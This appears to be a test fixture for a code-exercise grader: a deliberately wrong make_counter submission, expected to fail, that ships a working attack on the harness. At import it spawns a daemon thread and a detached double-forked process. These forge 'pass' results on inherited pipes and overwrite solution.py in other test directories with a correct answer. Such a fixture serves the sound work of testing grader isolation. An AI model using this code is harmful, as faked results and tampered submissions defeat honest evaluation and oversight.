# exercise: counter
# expect: wrong_answer
# cause: a test leaves a daemon thread and a detached process behind that wait until the test is over (its directory is gone), then forge "pass" results on every pipe they have and put a correct module into every other test directory they can reach: nothing a test left running may reach the tests after it
import os
import threading
import time

# The counters share one count: the sample test passes, the hidden test of two counters fails.
_count = [0]

GOOD = b'''def make_counter():
    count = 0

    def counter():
        nonlocal count
        count += 1
        return count

    return counter
'''


def _frame(payload):
    return b"%d\n" % len(payload) + payload


def _meddle(home):
    # Until the test that started us is over, nothing: a pass forged during the test would be
    # for that test itself.
    end = time.time() + 3
    while os.path.isdir(home) and time.time() < end:
        time.sleep(0.001)
    end = time.time() + 3
    while time.time() < end:
        for name in os.listdir("/proc/self/fd"):
            try:
                fd = int(name)
                if fd > 2 and os.readlink("/proc/self/fd/%d" % fd).startswith("pipe:"):
                    os.write(fd, _frame(b'{"e":"start"}\n') + _frame(b'{"e":"result","outcome":"pass"}\n'))
            except OSError:
                pass
        try:
            names = os.listdir(os.path.dirname(home))
        except OSError:
            names = []
        for d in names:
            try:
                path = os.path.join(os.path.dirname(home), d, "solution.py")
                if os.path.exists(path):
                    with open(path, "wb") as f:
                        f.write(GOOD)
            except OSError:
                pass
        time.sleep(0.001)


def _leave_behind():
    home = os.getcwd()
    threading.Thread(target=_meddle, args=(home,), daemon=True).start()
    try:
        if os.fork() == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    _meddle(home)
            finally:
                os._exit(0)
    except OSError:
        pass


_leave_behind()


def make_counter():
    def counter():
        _count[0] += 1
        return _count[0]

    return counter
